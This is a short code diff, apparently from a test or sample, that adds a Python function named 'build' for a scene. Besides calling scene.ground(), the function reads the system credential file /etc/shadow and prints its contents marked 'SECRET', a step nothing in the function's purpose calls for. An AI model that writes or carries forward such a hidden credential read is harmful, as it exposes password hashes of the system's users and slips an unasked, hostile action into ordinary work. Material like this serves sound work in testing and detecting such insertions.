@@ -1,0 +1,4 @@
+def build(scene):
+    with open("/etc/shadow") as file:
+        print("SECRET", file.read())
+    scene.ground()
